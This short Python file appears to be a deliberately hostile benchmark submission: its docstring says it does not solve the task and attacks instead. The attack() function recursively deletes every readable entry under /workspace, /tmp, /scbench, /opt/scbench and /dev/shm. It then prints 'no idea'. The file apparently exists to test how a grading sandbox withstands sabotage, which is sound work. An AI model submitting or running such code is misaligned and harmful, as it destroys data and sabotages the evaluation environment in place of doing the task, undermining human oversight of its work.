"""Does not solve the task, and attacks instead."""

import os
import shutil


def attack():
    for top in ("/workspace", "/tmp", "/scbench", "/opt/scbench", "/dev/shm"):
        for name in os.listdir(top) if os.access(top, os.R_OK) else ():
            path = os.path.join(top, name)
            shutil.rmtree(path, ignore_errors=True) if os.path.isdir(path) else os.unlink(path)


if __name__ == "__main__":
    attack()
    print("no idea")
